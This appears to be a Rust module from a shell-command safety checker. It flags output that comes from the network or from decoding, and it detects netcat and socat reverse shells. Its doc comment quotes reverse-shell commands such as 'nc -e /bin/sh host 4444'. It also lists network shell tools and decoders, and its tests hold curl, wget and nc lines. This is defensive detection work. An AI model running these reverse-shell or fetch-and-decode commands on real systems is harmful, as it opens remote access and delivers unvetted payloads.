//! Text that nobody has seen: it comes from the network or out of an encoding, and so can't be read before it runs.
//!
//! Only where it comes from counts here. What runs it is found where commands are read.

pub(crate) mod downloads;

use std::path::Path;

use crate::shell::model::{Command, CommandInput, Script, UNSEEN};
use crate::shell::wrappers::interpreters;
pub(crate) use crate::shell::wrappers::remote_exec::downloads::{Fetch, downloads_to};

/// How far a pipeline is followed back.
const LONGEST_PIPELINE: u32 = 12;

/// Programs that print what they fetch.
const FETCHERS: &[&str] =
    &["nc", "ncat", "netcat", "telnet", "socat", "http", "https", "xh", "httpie", "lynx", "w3m"];

/// Programs that decode with one of these options; no options mean always.
static DECODERS: &[(&[&str], &[&str])] = &[
    (&["base64", "gbase64", "base32", "basenc"], &["-d", "-D", "--decode", "-di", "-id"]),
    (&["openssl"], &["-d"]),
    (&["xxd"], &["-r", "-rp", "-r -p"]),
    (&["gpg", "gpg2"], &["-d", "--decrypt"]),
    (&["tar", "bsdtar", "gtar"], &["-xO", "-xOf", "-xzO", "-xzOf", "-O", "--to-stdout", "xO", "xOf"]),
    (&["unzip"], &["-p"]),
    (&["gzip", "gunzip", "bzip2", "xz", "zstd", "brotli"], &["-d", "-dc", "-cd", "-c", "--decompress"]),
    (&["zcat", "gzcat", "bzcat", "xzcat", "zstdcat", "uudecode", "uncompress"], &[]),
];

/// Whether what comes in is unseen.
pub(crate) fn comes_in(script: &Script, input: &CommandInput) -> bool {
    comes_in_within(script, input, LONGEST_PIPELINE)
}

fn comes_in_within(script: &Script, input: &CommandInput, depth: u32) -> bool {
    match input {
        CommandInput::Sketch(text) => text.contains(UNSEEN),
        CommandInput::From(index) if depth > 0 => prints_within(script, *index, depth - 1),
        _ => false,
    }
}

/// Whether what the command with this index prints is unseen.
pub(crate) fn prints(script: &Script, index: usize) -> bool {
    prints_within(script, index, LONGEST_PIPELINE)
}

fn prints_within(script: &Script, index: usize, depth: u32) -> bool {
    let Some(command) = script.commands.get(index) else { return false };
    would_print_within(script, command, depth)
}

/// Whether what a command prints would be unseen.
pub(crate) fn would_print(script: &Script, command: &Command) -> bool {
    would_print_within(script, command, LONGEST_PIPELINE)
}

fn would_print_within(script: &Script, command: &Command, depth: u32) -> bool {
    let goes_elsewhere = command.redirects.iter().any(|redirect| redirect.output);
    if goes_elsewhere {
        return false;
    }
    let handed = command.words.iter().skip(1).any(|word| word.text.contains(UNSEEN));
    let code_of_its_own = command.code.as_ref().is_some_and(|code| code.text.is_some());
    handed
        || fetches(command)
        || decodes(command)
        || (!code_of_its_own && comes_in_within(script, &command.input, depth))
}

/// Whether a command fetches something and prints it.
pub(crate) fn fetches(command: &Command) -> bool {
    let fetch = Fetch::of(command);
    let words = || command.words.iter().skip(1).map(|word| word.text.as_str()).collect::<Vec<&str>>();
    match command.program() {
        "gh" | "glab" => {
            let words = words();
            matches!(words.as_slice(), ["gist" | "snippet", "view", ..] | ["api", ..])
                && !words.contains(&"--jq")
                && !words.contains(&"-q")
        }
        "aws" | "gsutil" | "gcloud" | "rclone" | "mc" => matches!(
            words().as_slice(),
            ["s3", "cp", .., "-"] | ["cp", .., "-"] | ["cat", ..] | ["storage", "cat", ..]
        ),
        "curl" => fetch.remote && !fetch.asks_help && fetch.file.is_none() && !fetch.named_by_server,
        "wget" => fetch.remote && !fetch.asks_help && fetch.prints,
        name if FETCHERS.contains(&name) => {
            const PRINTS_NOTHING: &[&str] = &["-z", "-d", "--download", "--offline"];
            !command.words.iter().any(|word| PRINTS_NOTHING.contains(&word.text.as_str()))
                && command.words.len() > 1
        }
        _ => false,
    }
}

fn decodes(command: &Command) -> bool {
    let program = command.program();
    DECODERS.iter().any(|(names, options)| {
        names.contains(&program)
            && (options.is_empty() || command.words.iter().any(|word| options.contains(&word.text.as_str())))
    })
}

/// Whether a command gives somebody on the network a shell: `nc -e /bin/sh host 4444`, `socat TCP:… EXEC:sh`.
pub(crate) fn gives_a_shell(command: &Command) -> bool {
    let operands: Vec<&str> = command.words.iter().skip(1).map(|word| word.text.as_str()).collect();
    match command.program() {
        "nc" | "ncat" | "netcat" => {
            let runs = |text: &&str| {
                matches!(*text, "--exec" | "--sh-exec" | "-c")
                    || text.starts_with("--exec=")
                    || text.starts_with("--sh-exec=")
                    || (text.starts_with('-') && !text.starts_with("--") && text.ends_with('e'))
            };
            // Without a host or a port it connects with nobody.
            operands.iter().any(runs)
                && operands.iter().any(|text| names_a_shell(text))
                && operands.iter().any(|text| text.bytes().all(|byte| byte.is_ascii_digit()))
        }
        "socat" => operands.iter().any(|text| {
            let kind = text.split(':').next().unwrap_or_default();
            kind.eq_ignore_ascii_case("SHELL")
                || (["EXEC", "SYSTEM"].iter().any(|known| kind.eq_ignore_ascii_case(known))
                    && names_a_shell(text))
        }),
        _ => false,
    }
}

/// Whether a shell is among the words of a text.
fn names_a_shell(text: &str) -> bool {
    text.split([' ', '=', ',', ':', '"', '\'', '\\'])
        .any(|word| interpreters::is_shell(crate::shell::model::program_name(word)))
}

/// `/proc/self/fd/3` by its other name.
pub(crate) fn descriptor(path: &Path) -> Option<&str> {
    let text = path.to_str()?;
    ["/dev/fd/", "/proc/self/fd/", "/proc/thread-self/fd/"]
        .iter()
        .find_map(|prefix| text.strip_prefix(prefix))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::event::ShellDialect;
    use crate::shell::read;

    #[test]
    fn what_is_fetched_or_decoded_is_unseen() {
        for (text, expected) in [
            ("curl http://x", true),
            ("curl -fsSL http://x", true),
            ("curl -H --help http://x", true),
            ("curl -sSo f http://x", false),
            ("curl -O http://x/f", false),
            ("curl --help", false),
            ("curl file:///w/f", false),
            ("wget http://x/f", false),
            ("wget -qO- http://x", true),
            ("wget --output-doc=- http://x", true),
            ("curl http://x | tee f | head", true),
            ("nc -l 4444", true),
            ("nc -z host 4444", false),
            ("base64 -d f", true),
            ("base64 f", false),
            ("openssl enc -base64 -d", true),
            ("tar -xO a.tar f", true),
            ("cat f", false),
            ("echo $(curl http://x)", true),
        ] {
            let script = read(text, ShellDialect::Posix);
            assert_eq!(prints(&script, script.commands.len() - 1), expected, "{text}");
        }
    }

    #[test]
    fn a_download_says_where_it_goes() {
        for (text, expected) in [
            ("curl -o f http://x", Some("f")),
            ("curl -fsSLo f http://x", Some("f")),
            ("curl -O http://x/a/f.sh?q=1", Some("f.sh")),
            ("curl -OJ http://x/f", None),
            ("wget http://x/f", Some("f")),
            ("wget -qO f http://x", Some("f")),
            ("wget -O- http://x", None),
            ("curl http://x", None),
        ] {
            let script = read(text, ShellDialect::Posix);
            let file = downloads_to(&script.commands[0]).map(|word| word.text);
            assert_eq!(file.as_deref(), expected, "{text}");
        }
    }
}
